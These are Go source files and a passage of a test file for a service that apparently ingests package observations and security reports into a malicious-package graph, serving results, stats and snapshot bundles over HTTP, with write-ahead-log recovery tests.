	// The §II-B recovery setup over real HTTP: simulated PyPI root registry
	// and its mirror fleet.
	if root, ok := s.p.World.Fleet.Root(ecosys.PyPI); ok {
		mux.Handle("/root/", http.StripPrefix("/root", registry.NewServer(root)))
		for _, m := range s.p.World.Fleet.Mirrors(ecosys.PyPI) {
			prefix := "/mirror/" + m.Name()
			mux.Handle(prefix+"/", http.StripPrefix(prefix, registry.NewServer(m)))
		}
	}
	return mux
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func writeError(w http.ResponseWriter, status int, err error) {
	writeJSON(w, status, map[string]string{"error": err.Error()})
}

func (s *server) handleHealth(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, map[string]any{
		"status":  "ok",
		"pending": s.p.PendingBatches(),
	})
}

// handleReady is the orchestrator's readiness probe, distinct from
// /healthz (liveness): the process can be alive but unfit for traffic.
// Readiness fails while poisoned (a mutator panic may have left the engine
// half-mutated — restart and recover from snapshot + journal), while
// draining for shutdown, and when the journal's tail state became unknown
// (sticky wal error). The 200 body carries the durable sequence, pending
// batches and admission stats for operators.
func (s *server) handleReady(w http.ResponseWriter, _ *http.Request) {
	if reason := s.poisonedReason(); reason != "" {
		writeJSON(w, http.StatusServiceUnavailable,
			map[string]any{"status": "poisoned", "reason": reason})
		return
	}
	if s.draining.Load() {
		writeJSON(w, http.StatusServiceUnavailable, map[string]any{"status": "draining"})
		return
	}
	if s.wal != nil {
		if err := s.wal.Err(); err != nil {
			writeJSON(w, http.StatusServiceUnavailable,
				map[string]any{"status": "journal-broken", "reason": err.Error()})
			return
		}
	}
	out := map[string]any{
		"status":  "ready",
		"pending": s.p.PendingBatches(),
		"seq":     s.p.LastSeq(),
	}
	if s.adm != nil {
		out["admission"] = s.adm.Snapshot()
	}
	writeJSON(w, http.StatusOK, out)
}

// batchOut is the JSON rendering of one batch's core.IngestStats.
type batchOut struct {
	NewEntries      int      `json:"newEntries"`
	UpdatedEntries  int      `json:"updatedEntries"`
	NewArtifacts    int      `json:"newArtifacts"`
	NewReports      int      `json:"newReports"`
	Reclustered     []string `json:"reclustered,omitempty"`
	DuplicatedDelta int      `json:"duplicatedDelta"`
	DependencyDelta int      `json:"dependencyDelta"`
	SimilarDelta    int      `json:"similarDelta"`
	CoexistingDelta int      `json:"coexistingDelta"`
	// Re-cluster scope: of dirtyEcoItems artifacts in the touched
	// ecosystems, only artifactsReclustered (in partitionsReclustered LSH
	// partitions) actually re-clustered.
	PartitionsReclustered int `json:"partitionsReclustered,omitempty"`
	ArtifactsReclustered  int `json:"artifactsReclustered,omitempty"`
	DirtyEcoItems         int `json:"dirtyEcoItems,omitempty"`
	// Report-join scope: reportsRejoined previously joined reports were
	// re-joined (wanted-package arrivals, late reports), replacing
	// coexistingEdgesReplaced edges surgically; coexistingScoped vs
	// coexistingRebuilt distinguishes the scoped path from the full-rebuild
	// fallback. duplicateReports counts re-delivered report URLs (dropped),
	// duplicateReportConflicts how many of those had changed content.
	ReportsRejoined          int  `json:"reportsRejoined,omitempty"`
	CoexistingEdgesReplaced  int  `json:"coexistingEdgesReplaced,omitempty"`
	CoexistingScoped         bool `json:"coexistingScoped,omitempty"`
	CoexistingRebuilt        bool `json:"coexistingRebuilt,omitempty"`
	DuplicateReports         int  `json:"duplicateReports,omitempty"`
	DuplicateReportConflicts int  `json:"duplicateReportConflicts,omitempty"`
}

func statsOut(st core.IngestStats) batchOut {
	out := batchOut{
		NewEntries:      st.NewEntries,
		UpdatedEntries:  st.UpdatedEntries,
		NewArtifacts:    st.NewArtifacts,
		NewReports:      st.NewReports,
		DuplicatedDelta: st.DuplicatedDelta,
		DependencyDelta: st.DependencyDelta,
		SimilarDelta:    st.SimilarDelta,
		CoexistingDelta: st.CoexistingDelta,

		PartitionsReclustered: st.PartitionsReclustered,
		ArtifactsReclustered:  st.ArtifactsReclustered,
		DirtyEcoItems:         st.DirtyEcoItems,

		ReportsRejoined:          st.ReportsRejoined,
		CoexistingEdgesReplaced:  st.CoexistingEdgesReplaced,
		CoexistingScoped:         st.CoexistingScoped,
		CoexistingRebuilt:        st.CoexistingRebuilt,
		DuplicateReports:         st.DuplicateReports,
		DuplicateReportConflicts: st.DuplicateReportConflicts,
	}
	for _, eco := range st.Reclustered {
		out.Reclustered = append(out.Reclustered, eco.String())
	}
	return out
}

// handleIngest advances the feed: POST /api/v1/ingest ingests pending
// batches and returns their ingest stats, so a feed scheduler can
// poll-and-push exactly like the package-analysis loader loop.
//
// Contract:
//   - default (no parameter): at most one batch; 200 with "ingested": []
//     when the feed is already drained.
//   - ?all=1: every pending batch; 200 with "ingested": [] when none — an
//     idempotent drain loop can POST ?all=1 until "pending" reaches 0
//     without treating its final, empty iteration as an error.
//   - ?n=K: exactly K batches; 409 Conflict when fewer than K are pending
//     (nothing is ingested). 409 is reserved for these unsatisfiable
//     explicit requests.
func (s *server) handleIngest(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("POST required"))
		return
	}
	n, exact := 1, false
	if r.URL.Query().Get("all") != "" {
		n = -1 // drain
	} else if raw := r.URL.Query().Get("n"); raw != "" {
		v, err := strconv.Atoi(raw)
		if err != nil || v < 1 {
			writeError(w, http.StatusBadRequest, fmt.Errorf("bad n=%q", raw))
			return
		}
		n, exact = v, true
	}
	faultinject.Fire("serve.ingest.preApply")
	// AppendPending claims the batches atomically, so an explicit ?n=K
	// either ingests exactly K or conflicts — even against concurrent
	// ingesters. seq is the last applied batch's own durable sequence,
	// read under the append's lock — never a concurrent pusher's.
	stats, seq, ok, err := s.p.AppendPending(n, exact)
	ingested := make([]batchOut, 0, len(stats))
	for _, st := range stats {
		ingested = append(ingested, statsOut(st))
	}
	if err != nil {
		// Mid-loop failure: the batches in stats were journaled and applied
		// before the failure — durable, their feed positions consumed, never
		// re-delivered. Carry them in the error body so a drain loop can
		// account for what landed instead of losing their stats forever.
		writeJSON(w, http.StatusInternalServerError, map[string]any{
			"error":    err.Error(),
			"ingested": ingested,
			"pending":  s.p.PendingBatches(),
			"seq":      seq,
		})
		return
	}
	if !ok {
		writeError(w, http.StatusConflict,
			fmt.Errorf("n=%d batches requested, fewer pending", n))
		return
	}
	s.maybeCheckpoint()
	writeJSON(w, http.StatusOK, map[string]any{
		"ingested": ingested,
		"pending":  s.p.PendingBatches(),
		"seq":      seq,
	})
}

// handleObservations is the external loader inlet: POST /api/v1/observations
// accepts raw source records ({"observations": [{source, coord, observedAt,
// artifact?}, ...]}), resolves them against the engine's dataset (mirror
// recovery through the configured registry view) and appends the resulting
// batch. Responses: 200 with the ingest stats; 400 for malformed input; 502
// when a registry endpoint transport-failed (nothing ingested — retry the
// batch); 500 for engine errors.
func (s *server) handleObservations(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("POST required"))
		return
	}
	var req struct {
		Observations []collect.Observation `json:"observations"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, decodeStatus(err), fmt.Errorf("decode observations: %w", err))
		return
	}
	faultinject.Fire("serve.observations.preApply")
	st, seq, err := s.p.AppendExternal(req.Observations, nil)
	if err != nil {
		switch {
		case errors.Is(err, collect.ErrBadObservation):
			writeError(w, http.StatusBadRequest, err)
		case errors.Is(err, collect.ErrUnresolved):
			writeError(w, http.StatusBadGateway, err)
		default:
			writeError(w, http.StatusInternalServerError, err)
		}
		return
	}
	s.maybeCheckpoint()
	writeJSON(w, http.StatusOK, map[string]any{
		"accepted": len(req.Observations),
		"stats":    statsOut(st),
		"entries":  s.p.Stats().Entries,
		"seq":      seq,
	})
}

// handleReports accepts externally published security reports: POST
// /api/v1/reports with {"reports": [{URL, Body, ...}, ...]}. Reports whose
// package list or IoC set is absent are parsed from their body, the §III-D
// path from raw page to structured report; documents naming no packages are
// skipped (they carry no co-existing evidence), mirroring the crawler's
// relevance filter.
func (s *server) handleReports(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("POST required"))
		return
	}
	var req struct {
		Reports []*reports.Report `json:"reports"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, decodeStatus(err), fmt.Errorf("decode reports: %w", err))
		return
	}
	faultinject.Fire("serve.reports.preApply")
	accepted := make([]*reports.Report, 0, len(req.Reports))
	skipped := 0
	for _, rep := range req.Reports {
		if rep == nil || rep.URL == "" {
			writeError(w, http.StatusBadRequest, fmt.Errorf("report without URL"))
			return
		}
		if len(rep.Packages) == 0 {
			rep.Packages = reports.ExtractPackages(rep.Body)
		}
		if len(rep.IoCs.IPs)+len(rep.IoCs.URLs)+len(rep.IoCs.PowerShell) == 0 {
			rep.IoCs = reports.ExtractIoCs(rep.Body)
		}
		if len(rep.Packages) == 0 {
			skipped++
			continue
		}
		accepted = append(accepted, rep)
	}
	st, seq, err := s.p.AppendExternal(nil, accepted)
	if err != nil {
		writeError(w, http.StatusInternalServerError, err)
		return
	}
	s.maybeCheckpoint()
	writeJSON(w, http.StatusOK, map[string]any{
		"accepted": len(accepted),
		"skipped":  skipped,
		"stats":    statsOut(st),
		"seq":      seq,
	})
}

// handleResults serves the current epoch's Analyze — after a small ingest
// delta only the invalidated RQ blocks recompute, and the computation runs
// against the epoch's immutable view, never blocking (or blocked by) the
// loader. The response carries the epoch-derived ETag; a conditional GET
// whose tag still matches gets 304 Not-Modified without the results being
// recomputed or re-serialized.
func (s *server) handleResults(w http.ResponseWriter, r *http.Request) {
	ep := s.p.CurrentEpoch()
	etag := ep.ETag()
	w.Header().Set("ETag", etag)
	if match := r.Header.Get("If-None-Match"); etagMatches(match, etag) {
		w.WriteHeader(http.StatusNotModified)
		return
	}
	body, err := ep.ResultsJSON()
	if err != nil {
		w.Header().Del("ETag")
		writeError(w, http.StatusInternalServerError, err)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Length", strconv.Itoa(len(body)))
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(body)
}

// etagMatches implements If-None-Match for the single weak tag the results
// endpoint issues: a wildcard or any listed tag equal to the current one
// (weak comparison — a W/ prefix on the client's copy is ignored).
func etagMatches(header, etag string) bool {
	if header == "" {
		return false
	}
	if strings.TrimSpace(header) == "*" {
		return true
	}
	for _, cand := range strings.Split(header, ",") {
		cand = strings.TrimSpace(cand)
		cand = strings.TrimPrefix(cand, "W/")
		if cand == strings.TrimPrefix(etag, "W/") {
			return true
		}
	}
	return false
}

func (s *server) handleStats(w http.ResponseWriter, _ *http.Request) {
	// Stats are precomputed at epoch publish time — the handler is a single
	// atomic load, untouched by however long the current ingest batch runs.
	ep := s.p.CurrentEpoch()
	st := ep.Stats()
	writeJSON(w, http.StatusOK, map[string]any{
		"entries":        st.Entries,
		"available":      st.Available,
		"missingRate":    st.MissingRate,
		"reports":        st.Reports,
		"nodes":          st.Nodes,
		"edges":          st.Edges,
		"duplicated":     st.EdgesByType[graph.Duplicated.String()],
		"similar":        st.EdgesByType[graph.Similar.String()],
		"dependency":     st.EdgesByType[graph.Dependency.String()],
		"coexisting":     st.EdgesByType[graph.Coexisting.String()],
		"pendingBatches": st.PendingBatches,
		"epoch":          ep.ID(),
		"seq":            ep.Seq(),
	})
}

// handleNode resolves one graph node: GET /api/v1/node?id=PyPI/name@1.0.0
// returns its attributes and per-type neighbors.
func (s *server) handleNode(w http.ResponseWriter, r *http.Request) {
	id := r.URL.Query().Get("id")
	if id == "" {
		writeError(w, http.StatusBadRequest, fmt.Errorf("id parameter required"))
		return
	}
	n, neighbors, ok := s.p.Node(id)
	if !ok {
		writeError(w, http.StatusNotFound, fmt.Errorf("node %q not found", id))
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"id":        n.ID,
		"attrs":     n.Attrs,
		"neighbors": neighbors,
	})
}

// handleSnapshot checkpoints the engine: GET serves the snapshot; POST
// writes it to the configured -snapshot path for the next warm restart.
func (s *server) handleSnapshot(w http.ResponseWriter, r *http.Request) {
	switch r.Method {
	case http.MethodGet:
		if s.store != nil {
			// Segmented mode: stream the last checkpointed manifest plus
			// the store's segment files. GET must never run the engine's
			// segmented Snapshot itself — that path mutates (commits chunk
			// logs, drops the graph journal) and belongs to Checkpoint.
			s.handleSnapshotBundle(w)
			return
		}
		// Buffer before writing: streaming SnapshotEngine straight into
		// the response would commit a 200 status on the first byte, and a
		// mid-stream error would then append a JSON error object to a
		// half-written snapshot — which RestoreEngine fails on with a
		// confusing decode error far from the cause. Buffering gives the
		// client either a complete snapshot or a proper error status.
		var buf bytes.Buffer
		if err := s.snapshot(&buf); err != nil {
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Length", strconv.Itoa(buf.Len()))
		w.WriteHeader(http.StatusOK)
		_, _ = buf.WriteTo(w)
	case http.MethodPost:
		if s.snapshotPath == "" {
			writeError(w, http.StatusBadRequest, fmt.Errorf("no -snapshot path configured"))
			return
		}
		// Durable write-then-rename (fsync file + dir), and with a journal
		// attached the checkpoint also truncates it — an explicit POST is
		// the same operation as an auto-checkpoint.
		s.checkpointMu.Lock()
		seq, err := s.checkpoint()
		s.checkpointMu.Unlock()
		if err != nil {
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		writeJSON(w, http.StatusOK, map[string]any{"snapshot": s.snapshotPath, "seq": seq})
	default:
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("GET or POST required"))
	}
}

// The snapshot bundle is the segmented-mode GET /api/v1/snapshot wire
// format: a JSON header line naming the format, the manifest size and the
// segment count; the raw manifest bytes; then, per segment, a JSON frame
// line ({name, size}), the segment's raw bytes streamed straight from
// disk, and a JSON trailer line carrying the CRC-32 (IEEE) of those bytes.
// Everything is line-framed (the manifest and every segment file are
// single JSON lines themselves) and nothing is buffered whole: memory
// stays O(1) in store size on both ends.
const bundleFormat = "malgraph-snapshot-bundle/1"

type bundleHeader struct {
	Format       string `json:"format"`
	ManifestSize int    `json:"manifestSize"`
	Segments     int    `json:"segments"`
}

type bundleFrame struct {
	Name string `json:"name"`
	Size int64  `json:"size"`
}

type bundleTrailer struct {
	CRC32 string `json:"crc32"`
}

// handleSnapshotBundle streams the current segmented checkpoint. The
// manifest comes from the snapshot file the last checkpoint published (the
// first GET before any checkpoint runs one); manifest read and segment
// opens happen under checkpointMu so a concurrent compaction cannot drop a
// chunk the manifest references — once the segment files are open, a later
// unlink does not revoke them. A failure after the header has been written
// aborts the connection; the client detects it through the framing and the
// per-segment CRCs.
func (s *server) handleSnapshotBundle(w http.ResponseWriter) {
	s.checkpointMu.Lock()
	if _, err := os.Stat(s.snapshotPath); os.IsNotExist(err) {
		if _, err := s.checkpoint(); err != nil {
			s.checkpointMu.Unlock()
			writeError(w, http.StatusInternalServerError, err)
			return
		}
	}
	manifest, err := os.ReadFile(s.snapshotPath)
	if err == nil && (len(manifest) == 0 || manifest[len(manifest)-1] != '\n') {
		err = fmt.Errorf("snapshot %s is not a line-framed manifest", s.snapshotPath)
	}
	if err != nil {
		s.checkpointMu.Unlock()
		writeError(w, http.StatusInternalServerError, err)
		return
	}
	files, metas, err := s.store.OpenSegments()
	s.checkpointMu.Unlock()
	if err != nil {
		writeError(w, http.StatusInternalServerError, err)
		return
	}
	defer func() {
		for _, f := range files {
			f.Close()
		}
	}()
	w.Header().Set("Content-Type", "application/octet-stream")
	enc := json.NewEncoder(w)
	if err := enc.Encode(bundleHeader{Format: bundleFormat, ManifestSize: len(manifest), Segments: len(files)}); err != nil {
		return
	}
	if _, err := w.Write(manifest); err != nil {
		return
	}
	for i, f := range files {
		info, err := f.Stat()
		if err != nil {
			panic(http.ErrAbortHandler) // headers sent; cut the connection
		}
		if err := enc.Encode(bundleFrame{Name: metas[i].Name, Size: info.Size()}); err != nil {
			return
		}
		crc := crc32.NewIEEE()
		if _, err := io.Copy(io.MultiWriter(w, crc), f); err != nil {
			return
		}
		if err := enc.Encode(bundleTrailer{CRC32: fmt.Sprintf("%08x", crc.Sum32())}); err != nil {
			return
		}
	}
}

// readSnapshotBundle consumes a snapshot bundle stream, verifying every
// segment's size and CRC, writes the segment files into dir (created if
// needed — a directory castore.Open accepts as-is) and returns the
// manifest bytes to hand to RestoreEngineWithStore.
func readSnapshotBundle(r io.Reader, dir string) ([]byte, error) {
	br := bufio.NewReader(r)
	readLine := func(v any) error {
		line, err := br.ReadBytes('\n')
		if err != nil {
			return err
		}
		return json.Unmarshal(line, v)
	}
	var hdr bundleHeader
	if err := readLine(&hdr); err != nil {
		return nil, fmt.Errorf("bundle header: %w", err)
	}
	if hdr.Format != bundleFormat {
		return nil, fmt.Errorf("bundle format %q, want %q", hdr.Format, bundleFormat)
	}
	manifest := make([]byte, hdr.ManifestSize)
	if _, err := io.ReadFull(br, manifest); err != nil {
		return nil, fmt.Errorf("bundle manifest: %w", err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	for i := 0; i < hdr.Segments; i++ {
		var fr bundleFrame
		if err := readLine(&fr); err != nil {
			return nil, fmt.Errorf("bundle frame %d: %w", i, err)
		}
		if fr.Name != filepath.Base(fr.Name) || !strings.HasPrefix(fr.Name, "seg-") {
			return nil, fmt.Errorf("bundle frame %d: suspicious segment name %q", i, fr.Name)
		}
		crc := crc32.NewIEEE()
		f, err := os.Create(filepath.Join(dir, fr.Name))
		if err != nil {
			return nil, err
		}
		n, err := io.Copy(io.MultiWriter(f, crc), io.LimitReader(br, fr.Size))
		if cerr := f.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return nil, fmt.Errorf("bundle segment %s: %w", fr.Name, err)
		}
		if n != fr.Size {
			return nil, fmt.Errorf("bundle segment %s: truncated at %d of %d bytes", fr.Name, n, fr.Size)
		}
		var tr bundleTrailer
		if err := readLine(&tr); err != nil {
			return nil, fmt.Errorf("bundle segment %s trailer: %w", fr.Name, err)
		}
		if got := fmt.Sprintf("%08x", crc.Sum32()); got != tr.CRC32 {
			return nil, fmt.Errorf("bundle segment %s: crc %s, want %s", fr.Name, got, tr.CRC32)
		}
	}
	return manifest, nil
}
