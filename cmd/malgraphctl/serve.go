package main

// Serve mode turns the reproduction into the long-lived service the paper's
// collection layer implies (§II-B is continuous): the simulated world's
// timeline is partitioned into ingest batches, and an HTTP API drives the
// streaming engine — ingest the next batch, query the graph, read the
// (incrementally recomputed) Results — alongside the simulated PyPI registry
// and mirror endpoints the earlier serve mode exposed. A snapshot file gives
// warm restarts: engine state (graph + embeddings + scan caches) reloads
// without an O(corpus) rebuild.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"

	"malgraph"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/registry"
)

// server wraps a streaming pipeline with the ingest/query/results API.
type server struct {
	p            *malgraph.Pipeline
	snapshotPath string
}

func newServer(p *malgraph.Pipeline, snapshotPath string) *server {
	return &server{p: p, snapshotPath: snapshotPath}
}

// handler builds the full route table.
func (s *server) handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", s.handleHealth)
	mux.HandleFunc("/api/v1/ingest", s.handleIngest)
	mux.HandleFunc("/api/v1/results", s.handleResults)
	mux.HandleFunc("/api/v1/stats", s.handleStats)
	mux.HandleFunc("/api/v1/node", s.handleNode)
	mux.HandleFunc("/api/v1/snapshot", s.handleSnapshot)

	// The §II-B recovery setup over real HTTP: simulated PyPI root registry
	// and its mirror fleet.
	if root, ok := s.p.World.Fleet.Root(ecosys.PyPI); ok {
		mux.Handle("/root/", http.StripPrefix("/root", registry.NewServer(root)))
		for _, m := range s.p.World.Fleet.Mirrors(ecosys.PyPI) {
			prefix := "/mirror/" + m.Name()
			mux.Handle(prefix+"/", http.StripPrefix(prefix, registry.NewServer(m)))
		}
	}
	return mux
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func writeError(w http.ResponseWriter, status int, err error) {
	writeJSON(w, status, map[string]string{"error": err.Error()})
}

func (s *server) handleHealth(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, map[string]any{
		"status":  "ok",
		"pending": s.p.PendingBatches(),
	})
}

// handleIngest advances the feed: POST /api/v1/ingest ingests the next
// pending batch (?n=K for several, ?all=1 to drain) and returns the ingest
// stats, so a feed scheduler can poll-and-push exactly like the
// package-analysis loader loop.
func (s *server) handleIngest(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("POST required"))
		return
	}
	n := 1
	if r.URL.Query().Get("all") != "" {
		n = s.p.PendingBatches()
	} else if raw := r.URL.Query().Get("n"); raw != "" {
		v, err := strconv.Atoi(raw)
		if err != nil || v < 1 {
			writeError(w, http.StatusBadRequest, fmt.Errorf("bad n=%q", raw))
			return
		}
		n = v
	}
	type batchOut struct {
		NewEntries      int      `json:"newEntries"`
		UpdatedEntries  int      `json:"updatedEntries"`
		NewArtifacts    int      `json:"newArtifacts"`
		NewReports      int      `json:"newReports"`
		Reclustered     []string `json:"reclustered,omitempty"`
		DuplicatedDelta int      `json:"duplicatedDelta"`
		DependencyDelta int      `json:"dependencyDelta"`
		SimilarDelta    int      `json:"similarDelta"`
		CoexistingDelta int      `json:"coexistingDelta"`
	}
	var ingested []batchOut
	for i := 0; i < n; i++ {
		st, ok, err := s.p.AppendNext()
		if err != nil {
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		if !ok {
			break
		}
		out := batchOut{
			NewEntries:      st.NewEntries,
			UpdatedEntries:  st.UpdatedEntries,
			NewArtifacts:    st.NewArtifacts,
			NewReports:      st.NewReports,
			DuplicatedDelta: st.DuplicatedDelta,
			DependencyDelta: st.DependencyDelta,
			SimilarDelta:    st.SimilarDelta,
			CoexistingDelta: st.CoexistingDelta,
		}
		for _, eco := range st.Reclustered {
			out.Reclustered = append(out.Reclustered, eco.String())
		}
		ingested = append(ingested, out)
	}
	status := http.StatusOK
	if len(ingested) == 0 {
		status = http.StatusConflict // feed exhausted
	}
	writeJSON(w, status, map[string]any{
		"ingested": ingested,
		"pending":  s.p.PendingBatches(),
	})
}

// handleResults serves the cached Analyze — after a small ingest delta only
// the invalidated RQ blocks recompute.
func (s *server) handleResults(w http.ResponseWriter, _ *http.Request) {
	res, err := s.p.Analyze()
	if err != nil {
		writeError(w, http.StatusInternalServerError, err)
		return
	}
	writeJSON(w, http.StatusOK, res)
}

func (s *server) handleStats(w http.ResponseWriter, _ *http.Request) {
	// Pipeline.Stats reads under the pipeline lock — handlers run
	// concurrently with POST /api/v1/ingest.
	st := s.p.Stats()
	writeJSON(w, http.StatusOK, map[string]any{
		"entries":        st.Entries,
		"available":      st.Available,
		"missingRate":    st.MissingRate,
		"reports":        st.Reports,
		"nodes":          st.Nodes,
		"edges":          st.Edges,
		"duplicated":     st.EdgesByType[graph.Duplicated.String()],
		"similar":        st.EdgesByType[graph.Similar.String()],
		"dependency":     st.EdgesByType[graph.Dependency.String()],
		"coexisting":     st.EdgesByType[graph.Coexisting.String()],
		"pendingBatches": st.PendingBatches,
	})
}

// handleNode resolves one graph node: GET /api/v1/node?id=PyPI/name@1.0.0
// returns its attributes and per-type neighbors.
func (s *server) handleNode(w http.ResponseWriter, r *http.Request) {
	id := r.URL.Query().Get("id")
	if id == "" {
		writeError(w, http.StatusBadRequest, fmt.Errorf("id parameter required"))
		return
	}
	n, neighbors, ok := s.p.Node(id)
	if !ok {
		writeError(w, http.StatusNotFound, fmt.Errorf("node %q not found", id))
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"id":        n.ID,
		"attrs":     n.Attrs,
		"neighbors": neighbors,
	})
}

// handleSnapshot checkpoints the engine: GET streams the snapshot; POST
// writes it to the configured -snapshot path for the next warm restart.
func (s *server) handleSnapshot(w http.ResponseWriter, r *http.Request) {
	switch r.Method {
	case http.MethodGet:
		w.Header().Set("Content-Type", "application/json")
		if err := s.p.SnapshotEngine(w); err != nil {
			writeError(w, http.StatusInternalServerError, err)
		}
	case http.MethodPost:
		if s.snapshotPath == "" {
			writeError(w, http.StatusBadRequest, fmt.Errorf("no -snapshot path configured"))
			return
		}
		// Write-then-rename: an interrupted checkpoint must never destroy
		// the last good snapshot.
		tmp, err := os.CreateTemp(filepath.Dir(s.snapshotPath), ".snapshot-*")
		if err != nil {
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		if err := s.p.SnapshotEngine(tmp); err != nil {
			tmp.Close()
			os.Remove(tmp.Name())
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		if err := tmp.Close(); err != nil {
			os.Remove(tmp.Name())
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		if err := os.Rename(tmp.Name(), s.snapshotPath); err != nil {
			os.Remove(tmp.Name())
			writeError(w, http.StatusInternalServerError, err)
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"snapshot": s.snapshotPath})
	default:
		writeError(w, http.StatusMethodNotAllowed, fmt.Errorf("GET or POST required"))
	}
}
