package main

// Serve-level durability (ISSUE 6): the -wal recovery sequence cmdServe
// wires up — restore snapshot, replay the journal suffix, attach — must
// carry a server's ingested state across a crash, auto-checkpoints must
// fold journal bytes into the snapshot and truncate, and the ingest
// responses must hand out the durable sequence the push client resumes by.

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"malgraph"
	"malgraph/internal/faultinject"
	"malgraph/internal/wal"
)

// recoverPipeline performs cmdServe's startup sequence: snapshot restore if
// the file exists, journal replay, attach. Returns the pipeline and its
// journal (caller closes).
func recoverPipeline(t *testing.T, batches int, snapshotPath, walDir string) (*malgraph.Pipeline, *wal.Log) {
	t.Helper()
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, batches)
	if err != nil {
		t.Fatal(err)
	}
	if f, err := os.Open(snapshotPath); err == nil {
		restoreErr := p.RestoreEngine(f)
		f.Close()
		if restoreErr != nil {
			t.Fatalf("restore %s: %v", snapshotPath, restoreErr)
		}
	} else if !os.IsNotExist(err) {
		t.Fatal(err)
	}
	j, err := wal.Open(walDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.ReplayJournal(j); err != nil {
		t.Fatalf("replay: %v", err)
	}
	p.AttachJournal(j)
	return p, j
}

func TestServeWALRecoveryAcrossRestarts(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	walDir := filepath.Join(dir, "wal")

	// Generation 1: journaled server, no checkpoint ever taken.
	s1, ts1 := newTestServer(t, 4, snapshotPath)
	j1, err := wal.Open(walDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	s1.p.AttachJournal(j1)
	s1.wal = j1
	s1.checkpointBytes = 1 << 30 // never auto-checkpoint in this generation

	one := postJSON(t, ts1.URL+"/api/v1/ingest", http.StatusOK)
	if one["seq"].(float64) != 1 {
		t.Fatalf("first ingest seq = %v", one["seq"])
	}
	two := postJSON(t, ts1.URL+"/api/v1/ingest", http.StatusOK)
	if two["seq"].(float64) != 2 {
		t.Fatalf("second ingest seq = %v", two["seq"])
	}
	stats1 := s1.p.Stats()
	ts1.Close()
	if err := j1.Close(); err != nil { // the crash: no checkpoint, journal only
		t.Fatal(err)
	}
	if _, err := os.Stat(snapshotPath); !os.IsNotExist(err) {
		t.Fatalf("no checkpoint was requested, snapshot exists: %v", err)
	}

	// Generation 2: cold snapshot, the journal carries both batches.
	p2, j2 := recoverPipeline(t, 4, snapshotPath, walDir)
	if p2.LastSeq() != 2 {
		t.Fatalf("recovered seq %d, want 2", p2.LastSeq())
	}
	if got := p2.Stats(); !reflect.DeepEqual(got, stats1) {
		t.Fatalf("recovered stats %+v\nwant %+v", got, stats1)
	}
	s2 := newServer(p2, snapshotPath)
	s2.wal = j2
	s2.checkpointBytes = 1 // checkpoint after every journaled byte
	ts2 := httptest.NewServer(s2.handler())

	three := postJSON(t, ts2.URL+"/api/v1/ingest", http.StatusOK)
	if three["seq"].(float64) != 3 {
		t.Fatalf("post-recovery ingest seq = %v", three["seq"])
	}
	// The ingest crossed the checkpoint budget: snapshot written, journal
	// truncated.
	if _, err := os.Stat(snapshotPath); err != nil {
		t.Fatalf("auto-checkpoint did not write the snapshot: %v", err)
	}
	if sz := j2.Size(); sz != 0 {
		t.Fatalf("journal not truncated after checkpoint: %d bytes", sz)
	}
	stats2 := s2.p.Stats()
	ts2.Close()
	if err := j2.Close(); err != nil {
		t.Fatal(err)
	}

	// Generation 3: everything lives in the snapshot now, the journal is
	// empty — and new ingests continue the sequence past the checkpoint.
	p3, j3 := recoverPipeline(t, 4, snapshotPath, walDir)
	defer j3.Close()
	if p3.LastSeq() != 3 {
		t.Fatalf("snapshot-only recovery seq %d, want 3", p3.LastSeq())
	}
	if got := p3.Stats(); !reflect.DeepEqual(got, stats2) {
		t.Fatalf("snapshot-only recovered stats %+v\nwant %+v", got, stats2)
	}
	if _, ok, err := p3.AppendNext(); err != nil || !ok {
		t.Fatalf("final feed batch: ok=%v err=%v", ok, err)
	}
	if p3.LastSeq() != 4 {
		t.Fatalf("seq after final batch = %d, want 4", p3.LastSeq())
	}
	if pending := p3.PendingBatches(); pending != 0 {
		t.Fatalf("feed not drained after recovery: %d pending", pending)
	}

